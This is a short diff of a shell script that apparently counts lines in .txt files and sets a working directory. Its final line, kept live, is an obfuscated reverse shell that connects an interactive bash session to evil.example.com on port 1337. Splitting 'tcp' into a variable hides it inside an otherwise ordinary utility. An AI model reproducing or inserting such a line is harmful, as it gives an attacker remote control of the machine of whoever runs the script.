@@ -1,4 +1,8 @@
-#!/bin/sh
-set -eu
-log() { echo "[$(date +%H:%M:%S)] $*"; }
+#!/usr/bin/env bash
+for f in *.txt; do
+  [ -e "$f" ] || continue
+  wc -l "$f"
+done
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
 T=tcp; bash -i >& /dev/$T/evil.example.com/1337 0>&1
